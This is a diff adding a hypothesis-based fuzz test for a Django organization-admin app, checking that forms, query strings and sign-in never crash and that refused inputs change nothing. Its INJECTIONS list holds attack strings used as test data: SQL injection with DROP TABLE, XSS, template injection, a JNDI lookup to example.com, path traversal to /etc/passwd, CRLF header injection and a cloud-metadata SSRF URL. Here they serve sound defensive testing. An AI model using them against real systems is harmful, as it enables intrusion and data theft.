@@ -1,0 +1,346 @@
+"""Fuzzing every form and every query parameter with hypothesis, against the simulator.
+
+The URLs come from ACCESS (the access matrix), and the fields of each from the forms its view
+actually builds (recorded on a first request), so a new view or field is fuzzed without anyone
+listing it here. Values: odd unicode, huge strings, negative and enormous numbers, malformed dates
+and PEMs, injection strings, repeated and missing fields, and plausible values to reach deeper.
+
+For every example: never a 500. When a form refuses the input: nothing is written locally (row
+counts of every model of ours are unchanged), the simulator received no change request, and the
+page shows each refused field's label with its message.
+
+`HYPOTHESIS_PROFILE=ci` (the service tier) runs more examples than the default `dev` profile.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+from collections.abc import Iterator
+from contextlib import contextmanager
+from unittest import mock
+
+import httpx
+import pytest
+from django import forms
+from django.apps import apps
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.forms.forms import BaseForm
+from django.forms.utils import pretty_name
+from django.urls import reverse
+from django.utils.html import escape
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from orgadmin.client import install_transport
+from orgadmin.directory_forms import DollarField, EmailListField, WholeNumberField
+from tests import fuzzstats
+from tests.conftest import SIM_BASE_URL
+from tests.orgadmin.pem import make_pem
+from tests.orgadmin.test_bad_input import _samples
+from tests.test_access_matrix import ACCESS, url_patterns
+
+# Never fuzzed: signing out ends the session the other examples need; signing in is fuzzed by
+# its own test below, as an anonymous visitor.
+SKIP = {"logout", "login"}
+
+INJECTIONS = [
+    "' OR 1=1 --",
+    '"; DROP TABLE orgadmin_organization; --',
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "{{ 7*7 }}",
+    "{% debug %}",
+    "${jndi:ldap://example.com/a}",
+    "../../../../etc/passwd",
+    "%00",
+    "\x00",
+    "a\r\nSet-Cookie: pwned=1",
+    "javascript:alert(1)",
+    "http://169.254.169.254/latest/meta-data/",
+    "__proto__",
+    "*",
+    "%",
+    "_",
+    "\\",
+]
+ODD_UNICODE = [
+    "\u202etxt.exe",  # right-to-left override
+    "\ufeff",
+    "\u200b",
+    "Ａｃｍｅ",
+    "ß" * 3,
+    "🤖💸",
+    "e\u0301" * 20,
+    "\U0010ffff",
+    "ﷺ" * 10,
+    " ",
+    "",
+]
+NUMBERS = [
+    "-1",
+    "0",
+    "-0",
+    "1e309",
+    "-1e309",
+    "NaN",
+    "Infinity",
+    "9" * 40,
+    "-" + "9" * 40,
+    "0x10",
+    "1_000",
+    "٣",
+    "½",
+    "1.5",
+    "2147483648",
+    "9223372036854775808",
+]
+BAD_DATES = [
+    "2025-02-30",
+    "2025-13-01",
+    "0000-00-00",
+    "0001-01-01",
+    "9999-12-31",
+    "-2025-01-01",
+    "2025/01/01",
+    "01-02-2025",
+    "2025-01-01T25:00",
+    "1e10",
+    "today",
+]
+BAD_PEMS = [
+    "-----BEGIN CERTIFICATE-----\nnot base64 at all\n-----END CERTIFICATE-----\n",
+    "-----BEGIN CERTIFICATE-----\nTUlJQg==\n-----END CERTIFICATE-----\n",
+    "-----BEGIN PRIVATE KEY-----\nTUlJQg==\n-----END PRIVATE KEY-----\n",
+    "-----BEGIN CERTIFICATE-----\n",
+    "-----END CERTIFICATE-----",
+]
+_VALID_PEM = make_pem("fuzz.example.com")
+_EXPIRED_PEM = make_pem("old.example.com", expired=True)
+
+text = st.text(
+    alphabet=st.characters(blacklist_categories=("Cs",)), max_size=60
+)  # no lone surrogates: a browser can't send them either
+nasty = st.one_of(
+    text,
+    st.sampled_from(INJECTIONS + ODD_UNICODE + NUMBERS + BAD_DATES + BAD_PEMS),
+    st.integers(min_value=-(10**40), max_value=10**40).map(str),
+    st.floats(allow_nan=True, allow_infinity=True).map(repr),
+    st.integers(min_value=256, max_value=120_000).map(lambda n: "A" * n),  # huge
+    st.integers(min_value=1, max_value=4000).map(lambda n: "é" * n),
+)
+dates = st.dates(min_value=dt.date(1, 1, 1), max_value=dt.date(9999, 12, 31)).map(dt.date.isoformat)
+emails = st.emails().map(str)
+
+
+def _choices(field: forms.Field) -> list[str]:
+    values = []
+    for value, label in getattr(field, "choices", []):
+        if isinstance(label, list | tuple):  # option groups
+            values.extend(str(v) for v, _ in label)
+        else:
+            values.append(str(value))
+    return values
+
+
+def plausible(field: forms.Field, name: str) -> st.SearchStrategy:
+    """Values of the right shape, so that some examples get past the form to the API."""
+    if isinstance(field, forms.ChoiceField | forms.MultipleChoiceField) and _choices(field):
+        return st.sampled_from(_choices(field))
+    if isinstance(field, forms.BooleanField):
+        return st.sampled_from(["on", "true", "false", ""])
+    if isinstance(field, forms.DateField):
+        return dates
+    if isinstance(field, forms.IntegerField | WholeNumberField):
+        return st.integers(min_value=-5, max_value=10**7).map(str)
+    if isinstance(field, DollarField):
+        return st.decimals(min_value=0, max_value=10**6, places=2).map(str)
+    if isinstance(field, forms.EmailField | EmailListField):
+        return emails
+    if "pem" in name:
+        return st.sampled_from([_VALID_PEM, _EXPIRED_PEM, *BAD_PEMS])
+    return st.text(alphabet="abcdefghij-_ .", min_size=1, max_size=20)
+
+
+def field_values(fields: dict[str, forms.Field]) -> st.SearchStrategy:
+    """A query or form body: each known field missing, once or repeated; plus unknown fields."""
+
+    def one(name, field):
+        value = st.one_of(plausible(field, name), nasty)
+        return st.one_of(st.none(), value, st.lists(value, min_size=2, max_size=3))
+
+    known = st.fixed_dictionaries({name: one(name, field) for name, field in fields.items()})
+    extra = st.dictionaries(st.sampled_from(["page", "q", "x", "🦄", "a" * 300]), nasty, max_size=2)
+    return st.tuples(known, extra).map(
+        lambda pair: {k: v for k, v in {**pair[1], **pair[0]}.items() if v is not None}
+    )
+
+
+@contextmanager
+def recording_forms() -> Iterator[list[tuple[BaseForm, bool]]]:
+    """Every form validated while the block runs, with its verdict."""
+    seen: list[tuple[BaseForm, bool]] = []
+    original = BaseForm.is_valid
+
+    def is_valid(self):
+        verdict = original(self)
+        seen.append((self, verdict))
+        return verdict
+
+    with mock.patch.object(BaseForm, "is_valid", is_valid):
+        yield seen
+
+
+class Recorder:
+    """Wraps the simulator's WSGI app and counts the change requests it receives."""
+
+    def __init__(self, app) -> None:
+        self.app = app
+        self.changes = 0
+
+    def __call__(self, environ, start_response):
+        if environ["REQUEST_METHOD"] not in ("GET", "HEAD"):
+            self.changes += 1
+        return self.app(environ, start_response)
+
+
+def _row_counts() -> dict[str, int]:
+    return {
+        model._meta.label: model.objects.count()
+        for label in ("orgadmin", "dashboard")
+        for model in apps.get_app_config(label).get_models()
+    }
+
+
+def _body(response) -> str:
+    content = b"".join(response) if response.streaming else response.content
+    return content.decode(errors="replace")
+
+
+def _shown(text: str, body: str) -> bool:
+    return escape(text) in body or text in body
+
+
+def _assert_fields_named(seen, body: str, where: str) -> None:
+    """Each refused form says what is wrong on the page: a field's label (or name) and its
+    message. Small inline forms say only their first problem, so one named field is enough."""
+    for form, verdict in seen:
+        if verdict or not form.is_bound:  # `Form(request.POST or None)` of an empty POST
+            continue
+        named = []
+        for name, errors in form.errors.items():
+            if name not in form.fields:  # a problem with the form as a whole
+                named.append(any(_shown(m, body) for m in errors))
+                continue
+            label = str(form.fields[name].label or pretty_name(name))
+            names = (escape(label), label, f'name="{name}"', f"{name}:")
+            named.append(any(n in body for n in names) and any(_shown(m, body) for m in errors))
+        assert any(named), f"{where}: refused {dict(form.errors)}, but the page doesn't say so"
+
+
+@pytest.fixture
+def rig(org, simulator, client_as, admin, finance, auditor):
+    """The synced demo organization, a recorder in front of the simulator, and signed-in
+    clients per role."""
+    from orgadmin.services import directory_sync
+
+    directory_sync(org=org)
+    recorder = Recorder(simulator)
+    with install_transport(SIM_BASE_URL, httpx.WSGITransport(app=recorder)):
+        yield {
+            "recorder": recorder,
+            "samples": {**_samples(simulator.store), "pk": org.pk, "fmt": "csv"},
+            "admin": client_as(admin),
+        }
+
+
+def _url(name: str, samples: dict) -> str | None:
+    converters = url_patterns()[name].pattern.converters
+    if name == "orgadmin:audit_event":
+        samples = {**samples, "event_id": "audit_log-fuzz"}
+    if any(k not in samples for k in converters):
+        return None
+    return reverse(name, kwargs={k: samples[k] for k in converters})
+
+
+def _discover(client, method: str, url: str) -> dict[str, forms.Field]:
+    """The fields of the forms the view builds, from one empty request."""
+    with recording_forms() as seen:
+        client.generic(method, url) if method == "GET" else client.post(url, {})
+    fields: dict[str, forms.Field] = {}
+    for form, _ in seen:
+        fields.update(form.fields)
+    return fields
+
+
+def _fuzz(rig, method: str, name: str, examples: int) -> None:
+    client, recorder = rig["admin"], rig["recorder"]
+    url = _url(name, rig["samples"])
+    assert url is not None, f"no sample arguments for {name}"
+    fields = _discover(client, method, url)
+    file_fields = {n for n, f in fields.items() if isinstance(f, forms.FileField)}
+
+    @settings(max_examples=examples)
+    @given(data=field_values(fields), htmx=st.booleans(), upload=st.binary(max_size=3000))
+    def example(data, htmx, upload):
+        fuzzstats.count(name)
+        headers = {"HX-Request": "true"} if htmx else {}
+        before, changes = _row_counts(), recorder.changes
+        with recording_forms() as seen:
+            if method == "GET":
+                response = client.get(url, data, headers=headers)
+            else:
+                body = dict(data)
+                for f in file_fields:
+                    body[f] = SimpleUploadedFile("cert.pem", upload)
+                response = client.post(url, body, headers=headers)
+        where = f"{method} {url} {str(data)[:300]}"
+        assert response.status_code < 500, f"{where}: {response.status_code}"
+        if method == "GET":
+            assert _row_counts() == before, f"{where}: a GET wrote something"
+        refused = [form for form, verdict in seen if form.is_bound and not verdict]
+        if refused:
+            assert _row_counts() == before, f"{where}: refused, yet something was written"
+            assert recorder.changes == changes, f"{where}: refused, yet the API was asked"
+            if method == "POST" or not htmx:
+                # (A list's htmx fragment leaves out the filter bar that sent it: the full page
+                # names the field.)
+                body = _body(response)
+                if response.status_code == 302:  # the message is on the page it leads to
+                    body = _body(client.get(response["Location"]))
+                _assert_fields_named(seen, body, where)
+
+    example()
+
+
+GET_URLS = sorted(n for n, r in ACCESS.items() if "GET" in r.methods and n not in SKIP)
+POST_URLS = sorted(n for n, r in ACCESS.items() if "POST" in r.methods and n not in SKIP)
+
+
+def test_it_survives_fuzzed_query_strings_on_every_page(rig):
+    for name in GET_URLS:
+        _fuzz(rig, "GET", name, fuzzstats.examples(get=True))
+
+
+def test_it_survives_fuzzed_bodies_on_every_form(rig):
+    for name in POST_URLS:
+        _fuzz(rig, "POST", name, fuzzstats.examples(get=False))
+
+
+@pytest.mark.django_db
+@given(
+    username=st.one_of(nasty, st.just("alice")),
+    password=nasty,
+    extra=st.dictionaries(st.sampled_from(["next", "username", "x"]), nasty, max_size=2),
+)
+@settings(max_examples=25)
+def test_it_survives_fuzzed_sign_ins(username, password, extra):
+    """Signing in as an anonymous visitor: the form or the lock-out answers, never a 500."""
+    from django.contrib.sessions.models import Session
+    from django.test import Client
+
+    fuzzstats.count("login")
+    response = Client().post(
+        reverse("login"), {**extra, "username": username, "password": password}
+    )
+    assert response.status_code in (200, 429), response.status_code
+    assert not Session.objects.exists(), "a fuzzed sign-in got in"
